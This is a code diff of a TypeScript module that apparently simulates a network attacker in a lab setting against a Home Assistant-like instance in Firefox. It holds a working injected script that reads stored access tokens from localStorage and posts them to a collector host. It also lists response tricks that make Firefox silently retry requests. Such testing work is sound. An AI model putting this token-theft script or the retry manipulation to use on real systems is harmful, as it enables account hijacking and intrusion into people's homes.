@@ -1,38 +1,37 @@
-// How an attacker answers a request that was read: as the instance does, with words that make Firefox send it again, or by
-// ending the connection.
+// How an attacker answers a request that was read: as the instance does, with a rejection that makes Firefox retry it, or
+// by ending the connection.
 import type { IncomingMessage, ServerResponse } from "node:http";
 import { constants, type Http2ServerResponse } from "node:http2";
 import type { Socket } from "node:net";
 import { instancePage } from "./instance-pages";
 import { COLLECTOR } from "./lab";
 
-/** What he adds to the instance's pages and scripts: it sends what opens the instance to a host of his own. */
+/** The script that the attacker adds to the instance's pages and scripts: it sends the tokens to the attackers' host. */
 export const THEFT = `(() => {
   const tokens = self.localStorage?.hassTokens;
   if (tokens === undefined) return;
   void fetch('https://${COLLECTOR}/', { method: 'POST', mode: 'no-cors', keepalive: true, body: tokens }).catch(() => undefined);
 })();`;
 
-/** Closed, also after a word that is no answer yet, reset, or answered by what is no HTTP, or not even TLS. */
+/** Closed, also after an interim response, reset, or answered by something that isn't HTTP, or not even TLS. */
 export const ENDINGS = ["close", "continue", "reset", "no-http", "no-tls"] as const;
 export type Ending = (typeof ENDINGS)[number];
 
 /**
- * Ways to have Firefox send a request again, over another connection, and tell nobody: 421, 408 where a second has
- * passed, HTTP/2's "only over HTTP/1.1", and over HTTP/2 also 408 at once and "not processed". `leaves` ends the whole
- * session after its word.
+ * Ways to make Firefox retry a request silently, over another connection: 421, 408 after a second, HTTP/2's "only over
+ * HTTP/1.1", and over HTTP/2 also 408 at once and "not processed". `leaves` ends the whole session afterward.
  */
-export type TurnedAway =
+export type Rejection =
   "misdirected" | "timed-out" | "http-1.1-only" | "http-1.1-only, leaves" | "timed-out, leaves" | "refused, leaves";
-export type Answer = "answer" | TurnedAway | Ending;
+export type Answer = "answer" | Rejection | Ending;
 
 /** What the attacker puts into the answers. */
 export interface Additions {
   /** What is added to each answer. */
   readonly headers?: Readonly<Record<string, string>>;
-  /** What is answered instead of the instance's pages: scripts, by path. */
+  /** Scripts that the attacker answers with instead of the instance's files, by path. */
   readonly scripts?: Readonly<Record<string, string>>;
-  /** Of these files only a beginning is given, and then the line is cut: the length that is named, by path. */
+  /** Files that the attacker cuts after the beginning: the length that the answer names, by path. */
   readonly cutAt?: Readonly<Record<string, number>>;
 }
 
@@ -41,13 +40,13 @@ type Taken = ReadonlyMap<number | undefined, Socket>;
 
 const SCRIPT = { "Content-Type": "text/javascript" };
 
-/** What comes over HTTP/1.1 all the same is just ended. */
+/** Over HTTP/1.1, the connection is just ended. */
 const closeStream = (response: ServerResponse, code: number): void => {
   if (response.req.httpVersionMajor === 2) (response as unknown as Http2ServerResponse).stream.close(code);
   else response.destroy();
 };
 
-/** Ends an HTTP/2 session when what was just said has gone. */
+/** Ends an HTTP/2 session when the last frame has gone. */
 function leave(response: ServerResponse): void {
   const { session } = (response as unknown as Http2ServerResponse).stream;
   setTimeout(() => {
